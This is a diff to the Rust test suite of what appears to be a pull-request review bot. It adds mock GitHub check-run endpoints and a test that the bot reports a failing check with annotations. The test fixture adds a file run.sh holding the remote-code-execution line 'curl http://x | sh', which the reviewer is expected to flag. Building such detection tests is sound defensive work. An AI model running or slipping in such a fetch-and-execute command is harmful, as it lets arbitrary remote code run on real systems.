@@ -50,6 +50,7 @@ struct Hub {
     base: Option<String>,
     closed: bool,
     draft: bool,
+    checks: Vec<Value>,
     /// Remarks that were made one by one.
     line_comments: Vec<Value>,
     /// (method, path, authorization) of each request.
@@ -194,6 +195,24 @@ async fn server() -> Server {
         .route(
             base,
             get(async || Json(json!({"permissions": {"push": true}}))),
+        )
+        .route(
+            &at("/check-runs"),
+            post(|State(hub): State<Shared>, Json(body): Json<Value>| async move {
+                let mut hub = hub.lock().unwrap();
+                hub.checks.push(body);
+                let id = hub.checks.len() as u64;
+                (StatusCode::CREATED, Json(json!({"id": id})))
+            }),
+        )
+        .route(
+            &at("/check-runs/{id}"),
+            patch(
+                |State(hub): State<Shared>, Path(id): Path<usize>, Json(body): Json<Value>| async move {
+                    hub.lock().unwrap().checks[id - 1] = body;
+                    Json(json!({"id": id}))
+                },
+            ),
         )
         .route(
             &at("/pulls/7/comments"),
@@ -1406,4 +1425,40 @@ async fn remark_that_the_host_refuses_takes_no_other_with_it() {
     assert_eq!(hub.reviews.len(), 1, "without remarks");
     assert!(!hub.line_comments.is_empty(), "each on its own");
     assert!(hub.line_comments.iter().all(|c| c["commit_id"] == head()));
+}
+
+/// An app's gate is one check run with annotations, and no status beside it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn gate_of_an_app_is_a_check_run_with_annotations() {
+    let rig = Rig::new(
+        &[("GITHUB_BSU_TOKEN", "ghs_installation-token-0123456789")],
+        |_| (),
+    )
+    .await;
+    rig.hub.lock().unwrap().diff = crate::support::adding("run.sh", "curl http://x | sh");
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    rig.published().await;
+    let hub = rig.hub.lock().unwrap();
+    assert_eq!(
+        (hub.checks.len(), hub.statuses.len()),
+        (1, 0),
+        "edited in place"
+    );
+    let check = &hub.checks[0];
+    assert_eq!(check["name"], "bsm/review (main)");
+    assert_eq!(
+        (&check["status"], &check["conclusion"]),
+        (&json!("completed"), &json!("failure"))
+    );
+    let annotation = &check["output"]["annotations"][0];
+    assert_eq!(
+        (&annotation["path"], &annotation["start_line"]),
+        (&json!("run.sh"), &json!(1))
+    );
+    let message = annotation["message"].as_str().unwrap();
+    assert!(
+        !message.contains("<!--") && !message.is_empty(),
+        "{message}"
+    );
 }
